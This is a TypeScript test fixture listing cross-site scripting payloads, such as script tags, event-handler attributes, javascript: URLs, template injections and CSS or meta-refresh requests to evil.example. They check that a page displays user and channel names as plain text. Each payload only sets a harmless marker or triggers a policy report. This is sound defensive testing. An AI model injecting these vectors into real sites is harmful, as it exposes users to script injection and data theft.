/**
 * What a name could do in a page that does not take it for text. Each that gets its way says so: it sets `owned`, opens a
 * dialog, or asks for something that the page's policy reports.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>owned=1</script>`,
  `</script><script>owned=2</script>`,
  `<img src=x onerror=owned=3>`,
  `<IMG SRC=x ONERROR="owned=4">`,
  `<img/src=x/onerror=owned=5>`,
  `<svg onload=owned=6>`,
  `<svg><script>owned=7</script></svg>`,
  `<svg><animate onbegin=owned=8 attributeName=x dur=1s>`,
  `"><img src=x onerror=owned=9>`,
  `'><img src=x onerror=owned=10>`,
  `" autofocus onfocus=owned=11 x="`,
  `' onmouseover=owned=12 x='`,
  `<details open ontoggle=owned=13>x</details>`,
  `<iframe srcdoc="<script>parent.owned=14</script>">`,
  `<iframe src="javascript:parent.owned=15">`,
  `<a href="javascript:owned=16">press</a>`,
  `javascript:owned=17//`,
  `<body onload=owned=18>`,
  `<style>@import 'https://evil.example/19'</style>`,
  `<style>*{background:url(https://evil.example/20)}</style>`,
  `<link rel=stylesheet href=https://evil.example/21>`,
  `<base href=https://evil.example/22>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/23">`,
  `<form action=https://evil.example/24><button>go`,
  `<math><mtext></p><img src=x onerror=owned=25>`,
  `<!--><img src=x onerror=owned=26>-->`,
  `{{constructor.constructor('owned=27')()}}`,
  '${owned=28}',
  `<noscript><p title="</noscript><img src=x onerror=owned=29>">`,
  `&lt;img src=x onerror=owned=30&gt;`,
]

/** The same where only the characters of channel names may stand, and 64 of them. */
export const HOSTILE_CHANNELS: readonly string[] = HOSTILE_TEXTS.filter((text) =>
  /^[A-Za-z0-9 !#$%&()+\-:;<=.>?@[\]^_{}|~,]{1,64}$/.test(text),
)
